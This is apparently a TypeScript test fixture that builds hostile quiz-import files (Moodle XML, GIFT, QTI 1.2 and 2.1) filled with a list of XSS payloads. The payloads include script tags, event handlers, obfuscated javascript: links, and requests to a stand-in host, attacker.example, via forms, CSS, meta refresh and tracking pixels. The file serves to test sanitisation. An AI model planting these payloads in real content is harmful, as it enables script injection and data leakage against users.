import { strToU8, zipSync } from "fflate";
import { must } from "../../src/domain/invariant.ts";

/** HTML as a file of questions could bring it: each sets `window.broken`, or asks a foreign host. Well-formed XML, too. */
export const HTML_ATTACKS: readonly string[] = [
  "<script>window.broken = 1</script>",
  "<script src='https://attacker.example/a.js'></script>",
  "<p onclick='window.broken = 1' onmouseover='window.broken = 1'>press</p>",
  "<b onfocus='window.broken = 1' tabindex='0' autofocus='autofocus'>bold</b>",
  "<a href='javascript:window.broken = 1'>press</a>",
  "<a href=' JaVa&#9;ScRiPt:window.broken = 1'>press</a>",
  "<a href='data:text/html,&lt;script&gt;window.broken = 1&lt;/script&gt;'>press</a>",
  "<a href='vbscript:window.broken = 1'>press</a>",
  "<a href='https://attacker.example/' target='_blank' ping='https://attacker.example/ping'>elsewhere</a>",
  "<form action='https://attacker.example/'><input name='code'/><button>send</button></form>",
  "<form action='https://attacker.example/'><button formaction='javascript:window.broken = 1'>send</button></form>",
  "<style>@import 'https://attacker.example/a.css'; body { display: none }</style>",
  "<p style='background: url(https://attacker.example/a); position: fixed; inset: 0'>styled</p>",
  "<link rel='stylesheet' href='https://attacker.example/a.css'/>",
  "<meta http-equiv='refresh' content='0;url=https://attacker.example/'/>",
  "<base href='https://attacker.example/'/>",
  "<template><script>window.broken = 1</script></template>",
  "<svg onload='window.broken = 1'><script>window.broken = 1</script><animate onbegin='window.broken = 1' attributeName='x' dur='1s'/></svg>",
  "<math href='javascript:window.broken = 1'><mtext><img src='x' onerror='window.broken = 1'/></mtext></math>",
  "<details open='open' ontoggle='window.broken = 1'><summary>more</summary>x</details>",
  "<marquee onstart='window.broken = 1'>x</marquee>",
  "<table background='https://attacker.example/t.png'><tr><td onclick='window.broken = 1'>cell</td></tr></table>",
  "<ruby>漢<rt onclick='window.broken = 1'>かん</rt></ruby>",
  "&lt;script&gt;window.broken = 1&lt;/script&gt; &lt;img src=x onerror=window.broken=1&gt;",
  "![pixel](https://attacker.example/pixel.png) [press](javascript:window.broken=1)",
  "\\(\\href{javascript:window.broken = 1}{press}\\) $$\\includegraphics{https://attacker.example/a.png}$$",
  // What a question would not be the same without is skipped by name where it stands in what is asked.
  "<img src='https://attacker.example/pixel.png' alt='picture'/>",
  "<img src='x' onerror='window.broken = 1' alt='picture'/>",
  "<audio src='https://attacker.example/a.mp3' autoplay='autoplay'></audio>",
  "<video src='https://attacker.example/a.mp4' poster='https://attacker.example/a.png'></video>",
  "<iframe srcdoc='&lt;script&gt;parent.broken = 1&lt;/script&gt;'></iframe>",
  "<object data='https://attacker.example/a.swf'><embed src='https://attacker.example/a.swf'/></object>",
];

const cdata = (html: string) => `<text><![CDATA[${html}]]></text>`;

/** Moodle XML, one question for each text in each place that takes HTML, by turns of every kind. */
export function hostileMoodle(texts: readonly string[]): string {
  return `<?xml version="1.0"?><quiz>${texts.map(moodleQuestion).join("\n")}</quiz>`;
}

const MOODLE_ANSWERS: readonly (readonly [type: string, answers: (html: string) => string])[] = [
  [
    "multichoice",
    (html) =>
      `<single>true</single><answer fraction="100" format="html">${cdata(`Right ${html}`)}<feedback format="html">${cdata(html)}</feedback></answer><answer fraction="0" format="html">${cdata(`Wrong ${html}`)}<feedback format="html">${cdata(html)}</feedback></answer>`,
  ],
  [
    "matching",
    (html) =>
      `<subquestion format="html">${cdata(`One ${html}`)}<answer>${cdata("1")}</answer></subquestion><subquestion format="html">${cdata(`Two ${html}`)}<answer>${cdata("2")}</answer></subquestion>`,
  ],
  [
    "shortanswer",
    (html) =>
      `<answer fraction="100">${cdata("yes")}<feedback format="html">${cdata(html)}</feedback></answer>`,
  ],
  [
    "ordering",
    (html) =>
      `<layouttype>VERTICAL</layouttype><selecttype>ALL</selecttype><gradingtype>ABSOLUTE_POSITION</gradingtype>${["1", "2", "3"].map((place) => `<answer fraction="${place}" format="html">${cdata(`${place} ${html}`)}</answer>`).join("")}`,
  ],
  [
    "essay",
    (html) => `<graderinfo format="html">${cdata(html)}</graderinfo><answer fraction="0"><text/></answer>`,
  ],
];

function moodleQuestion(html: string, place: number): string {
  const [type, answers] = must(MOODLE_ANSWERS[place % MOODLE_ANSWERS.length], "there are kinds");
  return `<question type="${type}"><name><text>q${place}</text></name><questiontext format="html">${cdata(`<p>Number ${place}: ${html}</p>`)}</questiontext><generalfeedback format="html">${cdata(html)}</generalfeedback>${answers(html)}</question>`;
}

/** GIFT with HTML, which escapes the signs of its own. */
export function hostileGift(texts: readonly string[]): string {
  const own = (html: string) => html.replace(/[~=#{}:\\]/g, "\\$&").replaceAll("\n", " ");
  return texts
    .map(
      (html, place) =>
        `::q${place}:: [html]Number ${place}\\: ${own(html)} {=Right ${own(html)}#${own(html)} ~Wrong ${own(html)}#${own(html)}####${own(html)}}`,
    )
    .join("\n\n");
}

const inXml = (html: string) => html.replaceAll("&", "&amp;").replaceAll("<", "&lt;");

/** QTI 1.2, where HTML is written out as text. */
export function hostileQti1(texts: readonly string[]): string {
  const material = (html: string) =>
    `<material><mattext texttype="text/html">${inXml(html)}</mattext></material>`;
  const items = texts.map(
    (html, place) =>
      `<item ident="i${place}" title="q${place}"><presentation>${material(`Number ${place}: ${html}`)}<response_lid ident="R" rcardinality="Single"><render_choice><response_label ident="a">${material(`Right ${html}`)}</response_label><response_label ident="b">${material(`Wrong ${html}`)}</response_label></render_choice></response_lid></presentation><resprocessing><outcomes><decvar maxvalue="100" minvalue="0" varname="SCORE" vartype="Decimal"/></outcomes><respcondition continue="No"><conditionvar><varequal respident="R">a</varequal></conditionvar><setvar action="Set" varname="SCORE">100</setvar></respcondition></resprocessing></item>`,
  );
  return `<?xml version="1.0"?><questestinterop><assessment title="Hostile"><section>${items.join("\n")}</section></assessment></questestinterop>`;
}

/** A package of QTI 2.1, whose HTML is the file's own XML. */
export function hostileQti2(texts: readonly string[]): Uint8Array {
  const items = texts.map((html, place): [string, string] => [
    `q${place}.xml`,
    `<?xml version="1.0"?><assessmentItem xmlns="http://www.imsglobal.org/xsd/imsqti_v2p1" identifier="q${place}" title="q${place}" adaptive="false" timeDependent="false"><responseDeclaration identifier="RESPONSE" cardinality="single" baseType="identifier"><correctResponse><value>A</value></correctResponse></responseDeclaration><outcomeDeclaration identifier="SCORE" cardinality="single" baseType="float"/><itemBody><div>Number ${place}: ${html}</div><choiceInteraction responseIdentifier="RESPONSE" shuffle="true" maxChoices="1"><simpleChoice identifier="A">Right ${html}</simpleChoice><simpleChoice identifier="B">Wrong ${html}</simpleChoice></choiceInteraction></itemBody><responseProcessing template="http://www.imsglobal.org/question/qti_v2p1/rptemplates/match_correct"/></assessmentItem>`,
  ]);
  const resources = items.map(
    ([href], at) =>
      `<resource identifier="r${at}" type="imsqti_item_xmlv2p1" href="${href}"><file href="${href}"/></resource>`,
  );
  const manifest = `<?xml version="1.0"?><manifest xmlns="http://www.imsglobal.org/xsd/imscp_v1p1"><organizations/><resources>${resources.join("")}</resources></manifest>`;
  const files = [["imsmanifest.xml", manifest] as const, ...items];
  return zipSync(Object.fromEntries(files.map(([path, text]) => [path, strToU8(text)])));
}
